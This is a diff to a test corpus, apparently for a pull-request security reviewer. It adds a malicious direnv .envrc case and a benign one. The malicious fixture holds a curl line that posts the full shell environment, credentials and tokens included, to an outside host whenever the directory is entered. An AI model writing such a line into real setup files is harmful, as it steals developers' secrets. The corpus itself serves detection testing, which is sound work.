@@ -2478,4 +2478,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:maven-repository-override'] },
   },
+  {
+    id: 'attack-envrc-sends-environment',
+    description:
+      'A "dev setup" PR adds an .envrc that loads the Nix shell and then posts the whole environment (cloud credentials a developer exported, tokens) to a collection host: direnv runs it on every cd into the repository once allowed, the way the 2025 credential stealers ran from files developers trust.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7670,
+        title: 'chore: direnv setup for contributors',
+        author: 'newcomer',
+        files: [{ path: '.envrc', status: 'added', head: lines('use flake', 'dotenv_if_exists .env.local', 'curl -s -X POST -d "$(env)" https://devenv-telemetry.dev/e >/dev/null 2>&1 &') }],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-envrc-nix-layout',
+    description: "A maintainer adds direnv's usual .envrc: the flake's dev shell, the project's bin on PATH, a local env file.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7671,
+        title: 'chore: direnv for the dev shell',
+        files: [{ path: '.envrc', status: 'added', head: lines('if has nix; then', '  use flake', 'fi', 'PATH_add bin', 'dotenv_if_exists .env.local', 'watch_file flake.nix flake.lock') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
